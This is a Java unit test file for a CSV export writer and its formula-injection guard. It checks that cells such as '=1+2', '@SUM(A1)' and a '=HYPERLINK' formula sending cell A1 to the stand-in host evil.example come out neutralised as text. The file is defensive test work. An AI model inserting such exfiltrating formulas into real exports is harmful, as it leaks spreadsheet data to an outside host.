package vn.gov.moj.thidua.common;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import vn.gov.moj.thidua.common.export.CsvWriter;
import vn.gov.moj.thidua.common.export.FormulaGuard;

/** The one CSV writer: spreadsheet-friendly output, quoting by Commons CSV, and no cell that runs as a formula. */
class CsvWriterTest {

    static final String HYPERLINK = "Tên\n=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";

    @Test
    void normalValuesComeOutAsTheExportsAlwaysWroteThem() {
        String csv = new CsvWriter(CsvWriter.CRLF)
                .cells("Hạng", "Đơn vị", "Tổng").endRow()
                .cells(1, "x").quoted("Cục Phổ biến, giáo dục pháp luật").cells("LOCKED", new BigDecimal("13.75"), new BigDecimal("-1.50"), null)
                .endRow()
                .endRow()
                .quoted(null).cell(true).cell(new BigDecimal("1E+3")).cell("có \"ngoặc\"").endRow()
                .toString();
        assertThat(csv).isEqualTo("\uFEFFHạng,Đơn vị,Tổng\r\n"
                + "1,x,\"Cục Phổ biến, giáo dục pháp luật\",LOCKED,13.75,-1.50,\r\n"
                + "\r\n"
                + "\"\",true,1000,\"có \"\"ngoặc\"\"\"\r\n");
        assertThat(new CsvWriter(CsvWriter.LF).cells("Có mặt", 11).endRow().cells("Tỷ lệ", "90,91%").endRow().toString())
                .isEqualTo("\uFEFFCó mặt,11\nTỷ lệ,\"90,91%\"\n");
    }

    @Test
    void textThatWouldRunAsAFormulaIsShownAsText() throws IOException {
        List<String> hostile = List.of("=1+2", "+49 24", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, "Tên\r\n+1", "a\r-1");
        CsvWriter writer = new CsvWriter(CsvWriter.CRLF);
        hostile.forEach(writer::cell);
        writer.endRow();
        hostile.forEach(writer::quoted);
        writer.cell(-2).cell(new BigDecimal("-1.5")).endRow();

        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(writer.toString().substring(1))).getRecords();
        List<String> expected = List.of("'=1+2", "'+49 24", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r'=1",
                "Tên\n'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "Tên\r\n'+1", "a\r'-1");
        assertThat(rows.get(0).toList()).isEqualTo(expected);
        assertThat(rows.get(1).toList().subList(0, expected.size())).isEqualTo(expected);
        assertThat(rows.get(1).toList().subList(expected.size(), expected.size() + 2)).as("numbers are never altered")
                .containsExactly("-2", "-1.5");
    }

    @Test
    void aLeadingLineBreakSpacesOrFullWidthSignsDoNotHideAFormula() {
        assertThat(FormulaGuard.neutralise("\n=HYPERLINK(\"http://evil.example\")")).isEqualTo("'\n'=HYPERLINK(\"http://evil.example\")");
        assertThat(FormulaGuard.neutralise("\r\n=1")).isEqualTo("'\r\n'=1");
        assertThat(FormulaGuard.neutralise("  =1+2")).isEqualTo("'  =1+2");
        assertThat(FormulaGuard.neutralise("\u00A0@SUM(A1)")).isEqualTo("'\u00A0@SUM(A1)");
        assertThat(FormulaGuard.neutralise("\uFF1D1+2")).isEqualTo("'\uFF1D1+2");
        assertThat(FormulaGuard.neutralise("Tên\n \uFF0B1")).isEqualTo("Tên\n' \uFF0B1");
    }

    @Test
    void ordinaryTextIsLeftAlone() {
        for (String text : new String[] { "Cục Trợ giúp pháp lý", "Hà Nội - 2026", "a=b", "email@example.vn", "", "dòng 1\ndòng 2" }) {
            assertThat(FormulaGuard.neutralise(text)).isEqualTo(text);
        }
        assertThat(FormulaGuard.neutralise(null)).isNull();
        assertThat(FormulaGuard.neutralise("a\n\nb")).as("a blank line inside is no formula").isEqualTo("a\n\nb");
        assertThat(FormulaGuard.neutralise(HYPERLINK)).isEqualTo("Tên\n'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")");
    }
}
